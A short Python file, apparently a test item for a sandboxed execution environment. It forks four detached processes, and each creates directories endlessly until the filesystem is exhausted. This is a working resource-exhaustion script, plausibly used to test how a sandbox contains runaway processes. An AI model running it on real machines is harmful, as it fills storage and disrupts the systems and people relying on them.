# Processes that make folders for as long as they live.
# kind: G
# then: the right answer
# needs: os.fork

import itertools
import os

for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        for number in itertools.count():
            try:
                os.makedirs(f"{os.getpid()}/{number % 1000}/{number}", exist_ok=True)
            except OSError:
                os._exit(0)
